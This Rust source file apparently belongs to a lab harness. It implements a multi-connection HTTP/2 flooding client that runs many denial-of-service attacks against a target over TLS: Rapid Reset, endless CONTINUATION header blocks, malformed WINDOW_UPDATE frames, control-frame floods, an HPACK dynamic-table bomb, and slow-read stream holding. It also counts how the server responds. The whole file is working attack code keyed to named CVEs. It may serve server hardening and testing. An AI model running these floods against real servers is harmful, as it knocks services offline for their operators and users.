//! A peer with a good certificate that abuses HTTP/2: every known way to make the other side work or remember more than
//! it costs.

use std::{
    io,
    net::SocketAddr,
    path::PathBuf,
    sync::{
        Arc, Mutex, PoisonError,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use heddle_lab::hostile::Flooded;
use tokio::{
    io::{AsyncWriteExt, ReadHalf, WriteHalf},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout_at},
};
use tokio_rustls::client::TlsStream;

use crate::{
    dial::kind,
    frames::{
        self, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
        SETTINGS, UNKNOWN, WINDOW_UPDATE, frame, literal,
    },
    one::micros,
    tls,
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Attack {
    /// HEADERS and RST_STREAM, again and again (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316 and others).
    Continuation,
    /// The server is made to reset: WINDOW_UPDATE of 0 (CVE-2025-8671).
    WindowZero,
    /// The server is made to reset: a window beyond 2^31-1.
    WindowOverflow,
    /// The server is made to reset: DATA after END_STREAM.
    DataOnClosed,
    Settings,
    Ping,
    Priority,
    EmptyData,
    Unknown,
    /// One large field in the dynamic table, named thousands of times.
    HpackBomb,
    /// Asks for bytes on many streams, gives windows for all of them, and never reads.
    NeverRead,
    /// Asks for bytes on many streams and gives no window.
    NoWindow,
}

/// What a flood is about.
#[derive(Debug, Clone)]
pub struct Flood {
    pub to: SocketAddr,
    pub authority: String,
    pub pair: (PathBuf, PathBuf),
    pub attack: Attack,
    /// Connections at a time; one that is ended is replaced.
    pub connections: u64,
    /// Streams of the attacks that hold streams open.
    pub streams: u32,
    pub time: Duration,
}

/// Bytes that are built before they are written.
const BATCH: usize = 16 << 10;
/// The largest window.
const WINDOW_MAX: u32 = (1 << 31) - 1;

pub async fn run(flood: &Flood) -> anyhow::Result<Flooded> {
    let config = tls::client_from(Some(&flood.pair))?;
    let end = Instant::now() + flood.time;
    let report = Arc::new(Mutex::new(Flooded::default()));
    let mut attackers = JoinSet::new();
    for _ in 0..flood.connections {
        let (config, flood, report) = (Arc::clone(&config), flood.clone(), Arc::clone(&report));
        attackers.spawn(async move {
            while Instant::now() < end {
                let met = async {
                    let mut stream = tls::connect(&config, flood.to).await?;
                    greet(&mut stream, flood.attack).await?;
                    Ok::<_, io::Error>(stream)
                };
                match timeout_at(end.into(), met).await {
                    Ok(Ok(stream)) => attack(&flood, stream, end, &report).await,
                    Ok(Err(error)) => {
                        refused(&report, &error);
                        sleep(Duration::from_millis(20)).await;
                    }
                    Err(_) => break,
                }
            }
        });
    }
    attackers.join_all().await;
    let report = report.lock().unwrap_or_else(PoisonError::into_inner).clone();
    Ok(report)
}

fn refused(report: &Mutex<Flooded>, error: &io::Error) {
    *report.lock().unwrap_or_else(PoisonError::into_inner).refused.entry(kind(error)).or_default() += 1;
}

async fn greet(stream: &mut TlsStream<TcpStream>, attack: Attack) -> io::Result<()> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let mut first = frames::PREFACE.to_vec();
    match attack {
        Attack::NeverRead => {
            frame(&mut first, SETTINGS, 0, 0, &frames::setting(INITIAL_WINDOW_SIZE, WINDOW_MAX));
            frame(&mut first, WINDOW_UPDATE, 0, 0, &(WINDOW_MAX - (1 << 16)).to_be_bytes());
        }
        Attack::NoWindow => frame(&mut first, SETTINGS, 0, 0, &frames::setting(INITIAL_WINDOW_SIZE, 0)),
        _ => frame(&mut first, SETTINGS, 0, 0, &[]),
    }
    stream.write_all(&first).await?;
    stream.flush().await
}

/// What the reading half saw.
#[derive(Debug, Default)]
struct Seen {
    bytes: AtomicU64,
    resets: AtomicU64,
    refusals: AtomicU64,
    accepted: AtomicU64,
    goaways: AtomicU64,
}

/// One connection from the first hostile byte to its end.
async fn attack(flood: &Flood, stream: TlsStream<TcpStream>, end: Instant, report: &Mutex<Flooded>) {
    let start = Instant::now();
    let seen = Seen::default();
    let (reader, mut writer) = tokio::io::split(stream);
    let (frames_sent, bytes_sent) = (AtomicU64::new(0), AtomicU64::new(0));
    let writing = write(flood, &mut writer, &frames_sent, &bytes_sent);
    // Who doesn't read can't see an end: for that attack only a failed write is one.
    let reading = async {
        match flood.attack {
            Attack::NeverRead => std::future::pending().await,
            _ => read(reader, &seen).await,
        }
    };
    let ended = timeout_at(end.into(), async {
        tokio::select! {
            error = reading => error,
            Err(error) = writing => error,
            else => std::future::pending().await,
        }
    })
    .await;
    let took = micros(start.elapsed()) / 1_000;
    let mut report = report.lock().unwrap_or_else(PoisonError::into_inner);
    report.connections += 1;
    report.frames += frames_sent.into_inner();
    report.sent += bytes_sent.into_inner();
    report.received += seen.bytes.into_inner();
    report.resets += seen.resets.into_inner();
    report.refusals += seen.refusals.into_inner();
    report.accepted += seen.accepted.into_inner();
    report.goaways += seen.goaways.into_inner();
    match ended {
        Ok(error) => {
            report.ended += 1;
            report.longest_ms = report.longest_ms.max(took);
            *report.endings.entry(kind(&error)).or_default() += 1;
        }
        Err(_) => {
            // One that began just now had no time to be ended.
            report.unended_ms = report.unended_ms.max(took);
        }
    }
}

/// Reads until the connection ends; GOAWAY with an error is an end too, whatever comes after it.
async fn read(mut reader: ReadHalf<TlsStream<TcpStream>>, seen: &Seen) -> io::Error {
    loop {
        match frames::read(&mut reader).await {
            Ok(frame) => {
                seen.bytes.fetch_add(9 + frame.payload.len() as u64, Ordering::Relaxed);
                match frame.kind {
                    RST_STREAM => _ = seen.resets.fetch_add(1, Ordering::Relaxed),
                    HEADERS if frames::status(&frame.payload) == Some(200) => {
                        seen.accepted.fetch_add(1, Ordering::Relaxed);
                    }
                    HEADERS => _ = seen.refusals.fetch_add(1, Ordering::Relaxed),
                    GOAWAY => {
                        seen.goaways.fetch_add(1, Ordering::Relaxed);
                        let code = frame.payload.get(4..8).map_or(0, |code| u32::from(code[3]));
                        // Without an error it only asks the peer to go on elsewhere.
                        if code != 0 {
                            return io::Error::other(format!("goaway {code}"));
                        }
                    }
                    _ => {}
                }
            }
            Err(error) => return error,
        }
    }
}

/// Writes hostile frames until the connection breaks; an attack that holds streams open only waits then.
async fn write(
    flood: &Flood,
    writer: &mut WriteHalf<TlsStream<TcpStream>>,
    frames: &AtomicU64,
    bytes: &AtomicU64,
) -> io::Result<()> {
    let block = frames::block(&[(":method", "CONNECT"), (":authority", &flood.authority)]);
    let mut stream = 1;
    let mut batch = Vec::with_capacity(2 * BATCH);
    let opens = |batch: &mut Vec<u8>, stream| frame(batch, HEADERS, END_HEADERS, stream, &block);
    match flood.attack {
        Attack::Continuation => {
            frame(&mut batch, HEADERS, 0, stream, &block);
        }
        Attack::EmptyData => opens(&mut batch, stream),
        Attack::NeverRead | Attack::NoWindow => {
            for number in 0..flood.streams {
                opens(&mut batch, 1 + 2 * number);
                frame(&mut batch, DATA, 0, 1 + 2 * number, b"1000000000\n");
            }
            send(writer, &mut batch, u64::from(flood.streams) * 2, frames, bytes).await?;
            loop {
                // An unasked PING answer now and then shows whether the connection still stands; it is no flood.
                sleep(Duration::from_millis(500)).await;
                frame(&mut batch, PING, 1, 0, &[0; 8]);
                send(writer, &mut batch, 1, frames, bytes).await?;
            }
        }
        _ => {}
    }
    let mut bomb = Vec::new();
    literal(&mut bomb, "x", &[b'a'; 4_000], true);
    // Index 62 is the newest entry of the dynamic table.
    bomb.resize(bomb.len() + 60_000, 0x80 | 62);
    let mut count = 0;
    loop {
        while batch.len() < BATCH {
            count += 1;
            match flood.attack {
                Attack::RapidReset => {
                    opens(&mut batch, stream);
                    frame(&mut batch, RST_STREAM, 0, stream, &CANCEL);
                }
                Attack::Continuation => {
                    let mut field = Vec::new();
                    literal(&mut field, "x", b"y", false);
                    frame(&mut batch, CONTINUATION, 0, stream, &field);
                }
                Attack::WindowZero => {
                    opens(&mut batch, stream);
                    frame(&mut batch, WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                Attack::WindowOverflow => {
                    opens(&mut batch, stream);
                    frame(&mut batch, WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes());
                }
                Attack::DataOnClosed => {
                    frame(&mut batch, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    frame(&mut batch, DATA, 0, stream, b"x");
                }
                Attack::Settings => frame(&mut batch, SETTINGS, 0, 0, &frames::setting(4, 65_535)),
                Attack::Ping => frame(&mut batch, PING, 0, 0, &[7; 8]),
                Attack::Priority => frame(&mut batch, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
                Attack::EmptyData => frame(&mut batch, DATA, 0, stream, &[]),
                Attack::Unknown => frame(&mut batch, UNKNOWN, 0, stream, &[]),
                Attack::HpackBomb => {
                    let mut whole = block.clone();
                    whole.extend_from_slice(&bomb);
                    // Frames of the size that every peer takes (RFC 9113 §4.2).
                    let mut parts = whole.chunks(16 << 10);
                    frame(&mut batch, HEADERS, 0, stream, parts.next().unwrap_or_default());
                    let parts: Vec<_> = parts.collect();
                    for (index, part) in parts.iter().enumerate() {
                        let flags = if index + 1 == parts.len() { END_HEADERS } else { 0 };
                        frame(&mut batch, CONTINUATION, flags, stream, part);
                    }
                }
                Attack::NeverRead | Attack::NoWindow => {}
            }
            if !matches!(flood.attack, Attack::Continuation | Attack::EmptyData) {
                stream = (stream + 2) & WINDOW_MAX;
            }
        }
        send(writer, &mut batch, std::mem::take(&mut count), frames, bytes).await?;
    }
}

async fn send(
    writer: &mut WriteHalf<TlsStream<TcpStream>>,
    batch: &mut Vec<u8>,
    count: u64,
    frames: &AtomicU64,
    bytes: &AtomicU64,
) -> io::Result<()> {
    writer.write_all(batch).await?;
    writer.flush().await?;
    frames.fetch_add(count, Ordering::Relaxed);
    bytes.fetch_add(batch.len() as u64, Ordering::Relaxed);
    batch.clear();
    Ok(())
}
